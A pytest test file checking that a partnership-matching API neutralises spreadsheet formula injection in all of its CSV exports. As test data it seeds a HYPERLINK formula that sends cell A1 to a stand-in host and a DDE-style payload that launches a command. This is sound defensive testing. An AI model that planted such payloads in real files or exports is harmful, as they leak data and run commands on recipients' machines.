"""Formula injection: a name like ``=HYPERLINK(...)`` is neutralised in every CSV export (region, gaps,
synergies, batch reports, agendas, event summary, a shortlist, event requests), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from pactmatch.settings import Settings
from tests.conftest import admin_client

FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+49 30 1234"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    root = tmp_path_factory.mktemp("csv")
    c = admin_client(
        create_app(Settings(store=str(root / "store"), encoder="hashing", cache_dir=root / "cache"))
    )
    orgs = [
        {"org_id": "coord", "name": PLUS, "stakeholder_type": "large_employer", "country": "DE", "nuts_codes": ["DE111"]},
        {"org_id": "coord2", "name": "Coordinator two", "stakeholder_type": "large_employer", "country": "DE",
         "nuts_codes": ["DE112"]},
        {"org_id": "evil", "name": FORMULA, "stakeholder_type": "vet_provider", "country": "DE", "nuts_codes": ["DE113"],
         "description": "welding training"},
    ]  # fmt: skip
    for o in orgs:
        assert c.post("/organisations", json=o).status_code == 201
    for pid, name, coordinator in (("p1", FORMULA, "coord"), ("p2", AT_FORMULA, "coord2")):
        p = {
            "partnership_id": pid,
            "name": name,
            "kind": "regional",
            "scope_regions": ["DE11"],
            "description": "welding",
        }
        assert c.post("/partnerships", json=p).status_code == 201
        assert (
            c.put(f"/partnerships/{pid}/members/{coordinator}", json={"role": "coordinator"}).status_code
            == 201
        )
    assert c.put("/partnerships/p2/members/coord", json={}).status_code == 201  # a bridge: p1 and p2 pair
    event = {"event_id": "ev", "name": "Brokerage", "date": "2025-06-03", "tables": 2,
             "slots": [{"start": "09:00"}, {"start": "09:30"}]}  # fmt: skip
    assert c.post("/events", json=event).status_code == 201
    for attendee_id, person, org_id in (
        ("a1", FORMULA, "evil"),
        ("a2", "-1+2", "coord"),
        ("a3", "Jane", "coord2"),
    ):
        body = {"attendee_id": attendee_id, "person": person, "org_id": org_id}
        assert c.post("/events/ev/attendees", json=body).status_code == 201
    assert c.post("/events/ev/schedule", json={"solver": "greedy"}).status_code == 200
    assert c.put("/partnerships/p1/shortlist/evil", json={"note": AT_FORMULA}).status_code == 201
    sent = c.post("/events/ev/requests", json={"sender": "a1", "to": "a3", "message": AT_FORMULA})
    assert sent.status_code == 201, sent.text
    yield c


def job_result(client: TestClient, url: str, body: dict[str, object]) -> str:
    job = client.post(url, json=body).json()
    assert client.app.state.jobs.wait(job["job_id"]).status == "succeeded"  # type: ignore[attr-defined]
    return client.get(f"/jobs/{job['job_id']}/result").text


EXPORTS: list[tuple[str, Callable[[TestClient], str]]] = [
    ("region", lambda c: c.get("/regions/DE11/stakeholders", params={"format": "csv"}).text),
    ("gaps", lambda c: c.get("/partnerships/p1/gaps", params={"format": "csv"}).text),
    ("synergies", lambda c: c.get("/partnerships/p1/synergies", params={"format": "csv"}).text),
    ("batch gaps", lambda c: job_result(c, "/gap-reports", {"format": "csv"})),
    ("batch synergies", lambda c: job_result(c, "/synergy-reports", {"format": "csv"})),
    ("agendas", lambda c: c.get("/events/ev/agendas", params={"format": "csv"}).text),
    ("agenda", lambda c: c.get("/events/ev/agendas/a2", params={"format": "csv"}).text),
    ("summary", lambda c: c.get("/events/ev/summary", params={"format": "csv"}).text),
    ("shortlist", lambda c: c.get("/partnerships/p1/shortlist", params={"format": "csv"}).text),
    ("event requests", lambda c: c.get("/events/ev/requests", params={"format": "csv"}).text),
]


@pytest.mark.parametrize(("name", "export"), EXPORTS, ids=[e[0] for e in EXPORTS])
def test_every_csv_export_neutralises_formulas(
    client: TestClient, name: str, export: Callable[[TestClient], str]
) -> None:
    cells = [cell for row in csv.reader(io.StringIO(export(client))) for cell in row]
    assert "'" + FORMULA in cells, name  # the payload is there, and neutralised
    for cell in cells:
        assert not cell.startswith(TRIGGERS) or NUMBER.fullmatch(cell), (name, cell)
        assert not (cell.startswith("'") and NUMBER.fullmatch(cell[1:])), (name, cell)  # numbers stay numbers
